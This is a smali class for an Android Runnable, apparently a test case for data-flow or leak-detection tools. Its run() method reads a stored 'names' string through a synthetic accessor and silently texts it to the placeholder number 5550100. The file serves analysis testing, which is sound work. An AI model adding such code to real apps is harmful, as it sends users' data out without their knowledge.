.class final Lcases/flow_nest_accessor/Main$Upload;
.super Ljava/lang/Object;
.implements Ljava/lang/Runnable;

.field final synthetic this$0:Lcases/flow_nest_accessor/Main;

.method private constructor <init>(Lcases/flow_nest_accessor/Main;)V
    .registers 2
    iput-object p1, p0, Lcases/flow_nest_accessor/Main$Upload;->this$0:Lcases/flow_nest_accessor/Main;
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method synthetic constructor <init>(Lcases/flow_nest_accessor/Main;Lcases/flow_nest_accessor/Main-IA;)V
    .registers 3
    invoke-direct {p0, p1}, Lcases/flow_nest_accessor/Main$Upload;-><init>(Lcases/flow_nest_accessor/Main;)V
    return-void
.end method

.method public run()V
    .registers 7
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    iget-object v1, p0, Lcases/flow_nest_accessor/Main$Upload;->this$0:Lcases/flow_nest_accessor/Main;
    invoke-static {v1}, Lcases/flow_nest_accessor/Main;->-$$Nest$fgetnames(Lcases/flow_nest_accessor/Main;)Ljava/lang/String;
    move-result-object v3
    const-string v1, "5550100"
    const/4 v2, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
